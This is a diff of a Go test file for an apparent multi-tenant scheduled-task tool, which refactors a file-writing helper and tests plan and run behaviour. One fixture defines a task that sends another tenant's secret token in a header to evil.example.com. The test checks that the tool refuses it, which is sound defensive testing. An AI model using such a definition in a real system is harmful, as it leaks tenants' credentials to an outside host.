@@ -17,6 +17,8 @@ import (
 	"github.com/jackc/pgx/v5"
 
 	"github.com/riveredge/tasksync/migrations"
+	"github.com/riveredge/tasksync/reconciler"
+	"github.com/riveredge/tasksync/reconciler/definitions/deftest"
 )
 
 // copyTree copies the sample tree into a temp dir and returns it.
@@ -35,19 +37,9 @@ func sampleSecrets(t *testing.T, value string) string {
 	t.Helper()
 	dir := filepath.Join(t.TempDir(), "secrets")
 	for _, p := range []string{"acme/ACME_MAIL_TOKEN", "acme/ACME_REPORTS_TOKEN", "acme/ACME_DASHBOARD_KEY", "globex/GLOBEX_CRM_TOKEN"} {
-		writeFile(t, filepath.Join(dir, p), value+"\n")
+		deftest.WriteFile(t, filepath.Join(dir, p), value+"\n")
 	}
 	return dir
-}
-
-func writeFile(t *testing.T, path, data string) {
-	t.Helper()
-	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
-		t.Fatal(err)
-	}
-	if err := os.WriteFile(path, []byte(data), 0o644); err != nil {
-		t.Fatal(err)
-	}
 }
 
 const secretValue = "s3cr3t-value-never-shown"
@@ -96,7 +88,7 @@ func TestMigratePlanRunOnce(t *testing.T) {
 	if edited == string(data) {
 		t.Fatalf("the sample tree changed: no cron \"0 7 * * 1\" in %s", reports)
 	}
-	writeFile(t, reports, edited)
+	deftest.WriteFile(t, reports, edited)
 	out, errOut, code = runCmd(t, env, "plan")
 	for _, want := range []string{
 		"~ update weekly-revenue-report (ScheduledTask)",
@@ -112,7 +104,7 @@ func TestMigratePlanRunOnce(t *testing.T) {
 		t.Errorf("plan with a change: exit %d, want 2", code)
 	}
 	jout, _, jcode := runCmd(t, env, "plan", "--format", "json")
-	var pj planJSON
+	var pj reconciler.PlanJSON
 	if err := json.Unmarshal([]byte(jout), &pj); err != nil || jcode != 2 || !pj.Pending || pj.Summary.Updated != 1 {
 		t.Errorf("plan --format json: exit %d, err %v, summary %+v\n%s", jcode, err, pj.Summary, jout)
 	}
@@ -120,7 +112,7 @@ func TestMigratePlanRunOnce(t *testing.T) {
 	// Break another file: run --once applies the edit, keeps the broken
 	// file's definitions and exits 1.
 	events := filepath.Join(dir, "globex", "events.yaml")
-	writeFile(t, events, "apiVersion: tasksync/v1\nkind: ScheduledTask\nmetadata: {code: welcome-new-customer}\nspec: {trigger: {event: customer/created}, type: api_call, config: {url: 'ftp://x'}}\n")
+	deftest.WriteFile(t, events, "apiVersion: tasksync/v1\nkind: ScheduledTask\nmetadata: {code: welcome-new-customer}\nspec: {trigger: {event: customer/created}, type: api_call, config: {url: 'ftp://x'}}\n")
 	out, errOut, code = runCmd(t, env, "run", "--once", "--log-format", "json")
 	if code != 1 || !strings.Contains(out, "globex/events.yaml:4:74: spec.config.url") || !strings.Contains(out, "Applied: 0 created, 1 updated, 0 retired, 6 unchanged; 1 problem") {
 		t.Errorf("run --once with a broken file: exit %d\n%s%s", code, out, errOut)
@@ -148,7 +140,7 @@ func TestMigratePlanRunOnce(t *testing.T) {
 
 	// A tenant naming another's secret: run --once refuses the definition,
 	// and so does plan (given the secrets directory), at the string.
-	writeFile(t, filepath.Join(dir, "evil", "steal.yaml"), "apiVersion: tasksync/v1\nkind: ScheduledTask\nmetadata: {code: steal}\n"+
+	deftest.WriteFile(t, filepath.Join(dir, "evil", "steal.yaml"), "apiVersion: tasksync/v1\nkind: ScheduledTask\nmetadata: {code: steal}\n"+
 		"spec: {trigger: {interval: 5m}, type: api_call, config: {url: 'https://evil.example.com/', headers: {X: '${secret:ACME_REPORTS_TOKEN}'}}}\n")
 	const refused = `evil/steal.yaml:4:105: spec.config.headers.X: secret ACME_REPORTS_TOKEN is not granted to tenant "evil"`
 	if out, errOut, code = runCmd(t, env, "run", "--once"); code != 1 || !strings.Contains(out, refused) || !strings.Contains(out, "Applied: 0 created") {
